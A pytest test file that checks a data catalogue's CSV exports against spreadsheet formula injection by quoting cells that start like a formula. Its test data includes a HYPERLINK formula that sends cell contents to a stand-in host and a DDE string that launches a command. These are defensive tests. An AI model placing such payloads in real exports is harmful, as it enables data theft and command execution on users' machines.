"""CSV opens in spreadsheets, which compute what begins like a formula."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest

from neuromirror.model import DatasetFacts
from neuromirror.web.server.datasette_process import escape_cell
from support.running_catalogue import run_catalogue
from support.scripted_source import ScriptedDataset, ScriptedFile, ScriptedHarness

TITLES = [
    '=HYPERLINK("http://x.example.org/?"&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\uff1d1+1",
    "plain - title = of @ all",
]


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\uff0b1", "\ufeff=1", "\0=1"]
)
def test_text_that_would_be_computed_has_a_quote_before_it(value: str) -> None:
    assert escape_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["", "a=1", " =1", 0, -1, -1.5, None, "1-2"])
def test_other_values_stay(value: object) -> None:
    assert escape_cell(value) == value


@pytest.mark.parametrize(
    ("value", "demo_harness"),
    [("a;=1", "a;'=1"), ("a; @b;-1", "a; '@b;'-1"), ('a;"=1', "a;\"'=1"), ("a\t+1", "a\t'+1")],
)
def test_no_part_of_a_text_is_a_formula_in_a_spreadsheet_with_semicolons(
    value: str, demo_harness: str
) -> None:
    assert escape_cell(value) == demo_harness


def test_no_cell_of_any_csv_is_a_formula(box: ScriptedHarness) -> None:
    for number, title in enumerate(TITLES):
        facts = DatasetFacts(title=title)
        box.datasets[f"thing{number}"] = ScriptedDataset(
            {f"=a{number}.txt": ScriptedFile(b"1")}, facts=facts
        )
    box.sync()
    with run_catalogue(box.store, "--sql") as site:
        for path in (
            "/index/datasets.csv",
            "/index/datasets.csv?_labels=on&_size=max",
            "/index/datasets.csv?_dl=1&_trace=1",
            "/index/versions.csv",
            "/index/files.csv",
            "/index/newest_versions.csv",
            "/index.csv?sql=" + quote('select title, \'=2\', -1, "title" as "=x" from datasets'),
        ):
            text = site.page(path)
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert len(cells) > len(TITLES)
            formulas = [one for one in cells if one.startswith(("=", "+", "@", "\uff1d", "-2"))]
            assert formulas == [], path
        assert "'=1+1" in site.page("/index/datasets.csv")
        # JSON is for programs
        rows = site.get("/index/datasets.json?_shape=array").json()
        assert {one["title"] for one in rows} == set(TITLES)
